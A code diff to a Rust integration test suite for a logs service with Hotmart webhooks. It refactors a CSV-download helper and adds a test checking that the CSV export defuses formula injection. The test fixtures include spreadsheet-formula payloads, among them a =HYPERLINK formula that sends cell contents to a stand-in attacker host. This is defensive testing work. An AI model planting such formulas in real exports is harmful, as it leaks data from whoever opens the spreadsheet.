@@ -13,13 +13,16 @@ use crate::helpers::{urlencode, ClockExt, TestApp};
 const HOTTOK: &str = "test-hottok-Xk3p9QmZ2v8T";
 
 async fn hotmart_shop() -> (TestApp, String) {
+    hotmart_shop_named("Hotmart").await
+}
+
+/// A Hotmart key and an inbound URL called `name` granting one product.
+async fn hotmart_shop_named(name: &str) -> (TestApp, String) {
     let app = TestApp::spawn().await;
     app.create_key("hotmart", HOTTOK).await;
     let product = app.create_product("Curso", json!([])).await;
     let path = app
-        .create_inbound_url(
-            json!({"name": "Hotmart", "gateway": "hotmart", "product_ids": [product]}),
-        )
+        .create_inbound_url(json!({"name": name, "gateway": "hotmart", "product_ids": [product]}))
         .await;
     (app, path)
 }
@@ -29,6 +32,19 @@ fn sale(tx: &str, email: &str) -> crate::helpers::Fixture {
         v["data"]["purchase"]["transaction"] = json!(tx);
         v["data"]["buyer"]["email"] = json!(email);
     })
+}
+
+/// The body of `GET /logs.csv{query}`.
+async fn csv_text(app: &TestApp, query: &str) -> String {
+    app.client
+        .get(format!("{}/api/v1/logs.csv{query}", app.base))
+        .bearer_auth(crate::helpers::ADMIN_TOKEN)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap()
 }
 
 fn ids(page: &Value) -> Vec<String> {
@@ -256,17 +272,7 @@ async fn no_secret_appears_in_any_log_answer() {
     for id in ids(&app.get("/logs?limit=500").await) {
         answers.push(app.get(&format!("/logs/{id}")).await.to_string());
     }
-    let csv = app
-        .client
-        .get(format!("{}/api/v1/logs.csv", app.base))
-        .bearer_auth(crate::helpers::ADMIN_TOKEN)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
-    answers.push(csv);
+    answers.push(csv_text(&app, "").await);
 
     for text in &answers {
         for secret in [
@@ -455,22 +461,56 @@ async fn the_csv_export_streams_the_filtered_entries() {
     distinct.sort();
     distinct.dedup();
     assert_eq!(distinct.len(), 1205);
-    let one = app
-        .client
-        .get(format!(
-            "{}/api/v1/logs.csv?email=csv@example.com",
-            app.base
-        ))
-        .bearer_auth(crate::helpers::ADMIN_TOKEN)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let one = csv_text(&app, "?email=csv@example.com").await;
     assert_eq!(one.lines().count(), 2);
     app.api(Method::GET, "/logs.csv?status=nope", None, 422)
         .await;
+}
+
+#[tokio::test]
+async fn the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas() {
+    let (app, path) = hotmart_shop_named("@SUM(1+1)*cmd").await;
+    for (tx, email) in [
+        ("F1", "=1+2@example.com"),
+        ("F2", "+3@example.com"),
+        ("F3", "-4@example.com"),
+    ] {
+        app.post_fixture(&path, &sale(tx, email)).await;
+    }
+    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"ok")"#;
+    app.post_fixture(
+        &path,
+        &load("hotmart", "purchase_approved").edit(|v| v["event"] = json!(hyperlink)),
+    )
+    .await;
+
+    let text = csv_text(&app, "").await;
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let column = |name: &str| -> Vec<String> {
+        let i = headers.iter().position(|h| h == name).unwrap();
+        rows.iter().map(|r| r[i].to_string()).collect()
+    };
+
+    assert_eq!(rows.len(), 4);
+    let mut emails = column("email");
+    emails.sort();
+    assert_eq!(
+        emails,
+        [
+            "",
+            "'+3@example.com",
+            "'-4@example.com",
+            "'=1+2@example.com"
+        ]
+    );
+    assert!(column("event_type").contains(&format!("'{hyperlink}")));
+    assert!(column("integration_name")
+        .iter()
+        .all(|n| n == "'@SUM(1+1)*cmd"));
+    let risky = |c: &str| c.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    assert!(rows.iter().flatten().all(|cell| !risky(cell)), "{text}");
 }
 
 #[tokio::test]
